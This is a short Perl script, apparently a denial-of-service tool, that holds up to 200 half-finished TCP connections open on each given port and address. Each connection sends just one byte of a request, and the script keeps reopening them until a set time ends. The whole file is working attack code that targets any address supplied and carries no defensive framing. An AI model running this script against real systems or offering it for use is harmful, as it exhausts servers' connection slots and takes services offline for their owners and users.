# half-open.pl SECONDS PORT,PORT... ADDRESS...: keeps 200 sockets open at each port, each of which has sent one byte of a
# request, and opens them anew as they are closed, until the time is over; now and then it says how many it has opened.
use strict;
use warnings;

$| = 1;
use IO::Socket::IP;
use Time::HiRes qw(time sleep);

my ($seconds, $ports, @addresses) = @ARGV;
my $end = time + $seconds;
my @targets = map { my $port = $_; map { [$_, $port] } @addresses } split /,/, $ports;
my (%open, $opened);
$opened = 0;
while (time < $end) {
    for my $target (@targets) {
        my $sockets = $open{"@$target"} ||= [];
        @$sockets = grep { $_->connected } @$sockets;
        shift @$sockets while @$sockets >= 200;
        for (1 .. 20) {
            my $socket = IO::Socket::IP->new(PeerHost => $target->[0], PeerPort => $target->[1], Timeout => 1) or last;
            $opened++;
            $socket->syswrite("G");
            push @$sockets, $socket;
        }
    }
    print "$opened\n";
    sleep 0.1;
}
